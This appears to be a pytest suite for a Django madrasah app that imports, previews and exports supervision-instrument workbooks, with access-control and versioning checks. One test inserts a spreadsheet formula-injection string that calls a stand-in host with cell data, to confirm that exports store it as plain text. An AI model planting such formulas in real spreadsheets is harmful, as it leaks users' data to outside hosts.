"""The Waka uploads an instrument workbook, sees it as a supervisor will, and confirms it into a new
version; exports are open to every member of the madrasah and hold stored text as text."""

from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from kompetensi.instruments import seed_data
from kompetensi.instruments.examples import EXAMPLES
from kompetensi.instruments.seed import instrument_create_from_spec, instruments_ensure_defaults
from kompetensi.instruments.selectors import instrument_version_spec
from kompetensi.instruments.services import instrument_examples_load, instrument_version_freeze
from kompetensi.instruments.workbook import spec_workbook, template_workbook
from kompetensi.models import InstrumentVersion, Item
from tests.factories.kompetensi import instrument_version
from tests.factories.madrasah import AcademicYearFactory

IMPORT = "/kompetensi/instrumen/impor/"
PREVIEW = "/kompetensi/instrumen/impor/pratinjau/"


@pytest.fixture
def year(madrasah):
    return madrasah.semesters.get().academic_year


def upload(client, data: bytes, year, name="instrumen.xlsx"):
    return client.post(IMPORT, {"academic_year": year.pk, "file": SimpleUploadedFile(name, data)})


def test_the_waka_uploads_previews_and_confirms_a_new_instrument(client, waka, year):
    client.force_login(waka.user)
    response = upload(client, template_workbook(), year)
    assert response.status_code == 302 and response["Location"] == PREVIEW
    preview = client.get(PREVIEW)
    assert preview.status_code == 200
    assert "Contoh Instrumen Supervisi" in preview.content.decode()
    assert "Guru menyampaikan tujuan pembelajaran." in preview.content.decode()
    assert not InstrumentVersion.objects.filter(instrument__code="contoh-instrumen").exists()  # nothing yet
    confirmed = client.post(PREVIEW, {"token": preview.context["token"]})
    version = InstrumentVersion.objects.get(instrument__code="contoh-instrumen", academic_year=year)
    assert confirmed["Location"] == version.get_absolute_url()
    assert Item.objects.filter(section__version=version).count() == 1
    assert client.get(PREVIEW)["Location"] == IMPORT  # the kept workbook is gone once saved


def test_a_bad_workbook_shows_its_errors_and_offers_no_confirmation(client, waka, year):
    client.force_login(waka.user)
    workbook = load_workbook(BytesIO(template_workbook()))
    workbook["Bagian"]["C2"] = 0
    buffer = BytesIO()
    workbook.save(buffer)
    upload(client, buffer.getvalue(), year)
    preview = client.get(PREVIEW)
    errors = [(i.sheet, i.row, i.column) for i in preview.context["issues"]]
    assert errors == [("Bagian", 2, "Bobot")]
    assert b'data-testid="import-confirm"' not in preview.content
    before = InstrumentVersion.objects.count()
    client.post(PREVIEW, {"token": preview.context["token"]})
    assert InstrumentVersion.objects.count() == before


def test_confirming_reads_the_kept_file_not_the_browser(client, waka, year):
    client.force_login(waka.user)
    upload(client, template_workbook(), year)
    response = client.post(PREVIEW, {"token": "forged"})
    assert response.status_code == 302
    assert not InstrumentVersion.objects.filter(instrument__code="contoh-instrumen").exists()


def test_an_unused_version_of_the_year_is_replaced_on_confirmation(client, waka, madrasah, year):
    version = instrument_create_from_spec(madrasah=madrasah, academic_year=year, spec=seed_data.PERENCANAAN_KM)
    spec = instrument_version_spec(version=version)
    spec["sections"] = spec["sections"][:1]
    client.force_login(waka.user)
    upload(client, spec_workbook(spec), year)
    preview = client.get(PREVIEW)
    assert preview.context["plan"].replaces == version
    assert "belum dipakai" in preview.content.decode()
    client.post(PREVIEW, {"token": preview.context["token"], "replace": "1"})
    version.refresh_from_db()
    assert version.sections.count() == 1  # the same version (its links kept), new content


def test_a_used_version_is_never_replaced(client, waka, madrasah, year):
    version = instrument_create_from_spec(madrasah=madrasah, academic_year=year, spec=seed_data.PERENCANAAN_KM)
    instrument_version_freeze(version=version)
    client.force_login(waka.user)
    upload(client, spec_workbook(instrument_version_spec(version=version)), year)
    preview = client.get(PREVIEW)
    refusal = preview.context["plan"].refusal
    assert "sudah dipakai" in refusal and f"{year.start_year + 1}/{year.start_year + 2}" in refusal
    assert b'data-testid="import-confirm"' not in preview.content
    sections = version.sections.count()
    client.post(PREVIEW, {"token": preview.context["token"], "replace": "1"})
    assert version.sections.count() == sections
    assert InstrumentVersion.objects.filter(instrument=version.instrument).count() == 1


def test_a_teacher_may_not_import(client, guru, year):
    client.force_login(guru.user)
    assert client.get(IMPORT).status_code == 403
    assert upload(client, template_workbook(), year).status_code == 403


def test_another_madrasahs_year_is_not_a_choice(client, outsider, year):
    client.force_login(outsider.user)
    response = upload(client, template_workbook(), year)
    assert response.status_code == 400
    assert not client.session.get("instrument_import")


def test_another_madrasahs_operator_gets_404_for_an_export(client, madrasah, other_madrasah, year):
    from tests.factories.madrasah import member

    version = instrument_version(madrasah=madrasah, academic_year=year)
    foreign_operator = member(madrasah=other_madrasah, roles=["operator"])
    client.force_login(foreign_operator.user)
    assert client.get(f"/kompetensi/instrumen/{version.pk}/excel/").status_code == 404


def test_a_teacher_exports_a_version_with_formula_like_text_kept_as_text(client, guru, madrasah, year):
    version = instrument_version(madrasah=madrasah, academic_year=year)
    version.sections.get().items.filter(order=1).update(text='=HYPERLINK("http://x.test/?"&A1,"klik")')
    client.force_login(guru.user)
    response = client.get(f"/kompetensi/instrumen/{version.pk}/excel/")
    assert response.status_code == 200
    cell = load_workbook(BytesIO(response.content))["Butir"]["C2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == '=HYPERLINK("http://x.test/?"&A1,"klik")'


def test_the_kbc_examples_are_offered_from_2025_and_import_through_the_preview(client, waka, madrasah):
    year = AcademicYearFactory(madrasah=madrasah, start_year=2025)
    client.force_login(waka.user)
    listing = client.get(f"/kompetensi/instrumen/?tahun={year.start_year}")
    assert [e.key for e, _label in listing.context["examples"]] == ["perencanaan-kbc", "pelaksanaan-kbc"]
    client.post("/kompetensi/instrumen/impor/contoh/perencanaan-kbc/", {"tahun": year.start_year})
    preview = client.get(PREVIEW)
    assert "Panca Cinta" in preview.content.decode()
    client.post(PREVIEW, {"token": preview.context["token"]})
    version = InstrumentVersion.objects.get(instrument__code="perencanaan-km", academic_year=year)
    assert version.sections.filter(title="Pembelajaran Mendalam").exists()


def test_the_kbc_examples_are_not_offered_before_2025(client, waka, madrasah):
    year = AcademicYearFactory(madrasah=madrasah, start_year=2024)
    client.force_login(waka.user)
    assert client.get(f"/kompetensi/instrumen/?tahun={year.start_year}").context["examples"] == []
    response = client.post("/kompetensi/instrumen/impor/contoh/perencanaan-kbc/", {"tahun": year.start_year})
    assert response.status_code == 404


def test_loading_the_examples_replaces_unused_2025_versions_and_keeps_earlier_years(madrasah):
    earlier = AcademicYearFactory(madrasah=madrasah, start_year=2024)
    later = AcademicYearFactory(madrasah=madrasah, start_year=2025)
    instruments_ensure_defaults(madrasah=madrasah, academic_year=earlier)
    instruments_ensure_defaults(madrasah=madrasah, academic_year=later)
    teaching_2025 = InstrumentVersion.objects.get(instrument__code="pelaksanaan-pembelajaran", academic_year=later)
    instrument_version_freeze(version=teaching_2025)
    loaded = instrument_examples_load(madrasah=madrasah, academic_year=later)
    assert [v.instrument.code for v in loaded] == ["perencanaan-km"]
    spec_2024 = instrument_version_spec(
        version=InstrumentVersion.objects.get(instrument__code="perencanaan-km", academic_year=earlier)
    )
    spec_2025 = instrument_version_spec(version=loaded[0])
    assert len(spec_2025["sections"]) == len(spec_2024["sections"]) + 2
    assert [s["title"] for s in spec_2024["sections"]] == [s["title"] for s in seed_data.PERENCANAAN_KM["sections"]]
    assert instrument_examples_load(madrasah=madrasah, academic_year=earlier) == []


def test_the_stored_example_workbooks_are_what_the_writer_makes_of_the_example_specs():
    for example in EXAMPLES.values():
        stored = load_workbook(BytesIO(example.data()))
        written = load_workbook(BytesIO(spec_workbook(example.spec, title=example.title)))
        for name in ("Instrumen", "Skala", "Bagian", "Butir", "Predikat"):
            assert [[c.value for c in row] for row in stored[name].iter_rows()] == [
                [c.value for c in row] for row in written[name].iter_rows()
            ], f"{example.filename}: run examples_write()"


def test_an_unused_2025_version_offers_its_kbc_example_and_a_used_one_does_not(client, waka, madrasah):
    year = AcademicYearFactory(madrasah=madrasah, start_year=2025)
    planning = instrument_create_from_spec(madrasah=madrasah, academic_year=year, spec=seed_data.PERENCANAAN_KM)
    teaching = instrument_create_from_spec(madrasah=madrasah, academic_year=year, spec=seed_data.PELAKSANAAN)
    instrument_version_freeze(version=teaching)
    client.force_login(waka.user)
    offered = client.get(planning.get_absolute_url()).context["examples"]
    assert [example.key for example, _label in offered] == ["perencanaan-kbc"]
    assert client.get(teaching.get_absolute_url()).context["examples"] == []
